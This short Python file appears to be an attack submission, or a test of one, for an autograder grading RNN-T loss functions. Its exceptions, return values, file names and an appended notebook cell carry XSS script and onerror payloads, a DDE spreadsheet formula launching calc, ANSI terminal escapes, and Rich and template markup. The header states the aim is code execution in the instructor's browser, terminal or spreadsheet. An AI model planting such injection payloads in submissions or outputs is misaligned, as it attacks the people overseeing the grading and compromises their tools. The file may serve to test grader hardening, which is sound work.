# tries: puts scripts, terminal codes, rich's markup, spreadsheet formulas and template tags into cells, messages and file names
# gain: code in the instructor's browser, terminal or spreadsheet

# %% setup
raise Exception("<script>alert(1)</script>[/][bold]x[/red]\x1b[2J{{ grade }}{% raw %}=cmd|' /C calc'!A0 <img src=x onerror=alert(1)>")

# %% forward
def forward(log_probs, targets, blank=-1):
    raise ValueError("=1+1</pre><script>alert(2)</script>[/]\x1b]0;x\x07")

# %% backward
def backward(log_probs, targets, blank=-1):
    return "<script>", "[/][/]"

# %% files
def files():
    return {"<script>alert(3)</script>.csv": b"=1+1", "[/red]{{x}}.txt": b"x", "a\x1b[2J.json": b"{}"}

# %% notebook
def change(notebook):
    notebook["cells"].append({"cell_type": "markdown", "id": "text", "metadata": {}, "source": "<script>alert('rnnt-attack')</script><img src=x onerror=\"alert('rnnt-attack')\">"})
